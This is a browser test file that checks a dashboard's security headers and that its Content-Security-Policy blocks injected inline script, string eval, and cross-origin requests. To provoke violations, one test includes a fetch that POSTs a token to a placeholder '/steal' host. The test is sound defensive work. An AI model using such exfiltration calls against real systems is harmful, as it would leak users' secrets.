/**
 * What the edge promises, seen from the browser: the dashboard and the API come with the security
 * headers of template.yaml's response headers policy (served by `xmonitor local` from the same
 * definition), and the Content-Security-Policy is enforced: no inline script, no eval, no request
 * to another origin. Every test fails on a violation (see fixtures.ts); this one provokes some on
 * purpose and checks they were seen.
 */
import { test, expect } from './fixtures';

const directives = (policy: string) =>
  Object.fromEntries(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .map(([name, ...sources]) => [name, sources]),
  );

test('the dashboard and the API come with the security headers', async ({ page, request }) => {
  const document = await page.goto('/?tier=investor');
  const headers = document!.headers();
  const csp = directives(headers['content-security-policy']);
  expect(csp['script-src']).toEqual(["'self'"]);
  expect(csp['connect-src']).toEqual(["'self'"]);
  expect(csp['object-src']).toEqual(["'none'"]);
  expect(csp['frame-ancestors']).toEqual(["'none'"]);
  expect(csp['base-uri']).toEqual(["'self'"]);
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['x-frame-options']).toBe('DENY');
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['strict-transport-security']).toMatch(/^max-age=\d{8,}/);
  expect(headers['permissions-policy']).toContain('camera=()');
  await expect(page.locator('[data-post-card]').first()).toBeVisible();

  const api = await request.get('/v1/feed?limit=1');
  expect(api.headers()['x-content-type-options']).toBe('nosniff');
  expect(api.headers()['cache-control']).toBe('no-store');
  expect(api.headers()['content-security-policy']).toBe(headers['content-security-policy']);
});

test('the policy refuses an inline script, eval and another origin, and the suite sees each refusal', async ({ page, cspViolations }) => {
  await page.goto('/');
  await expect(page.locator('[data-post-card]').first()).toBeVisible();
  expect(cspViolations).toEqual([]);

  const outcome = await page.evaluate(async () => {
    const marker = window as unknown as { injected?: boolean; evaluated?: boolean };
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    // A string for a timer is compiled like eval, by the page.
    (window.setTimeout as unknown as (code: string, ms: number) => number)('window.evaluated = true', 0);
    await new Promise((resolve) => window.setTimeout(resolve, 50));
    const evaluated = marker.evaluated === true;
    const elsewhere = await fetch('https://xmonitor-csp-test.invalid/steal', { method: 'POST', body: 'token' }).then(
      () => 'sent',
      () => 'blocked',
    );
    return { injected: marker.injected === true, evaluated, elsewhere };
  });
  expect(outcome).toEqual({ injected: false, evaluated: false, elsewhere: 'blocked' });

  await expect.poll(() => cspViolations.map((v) => v.split(' ')[0]).sort()).toEqual(['connect-src', 'script-src', 'script-src-elem']);
  expect(cspViolations.find((v) => v.startsWith('connect-src'))).toContain('https://xmonitor-csp-test.invalid/steal');
  // Provoked on purpose: not a finding of this test.
  cspViolations.length = 0;
});
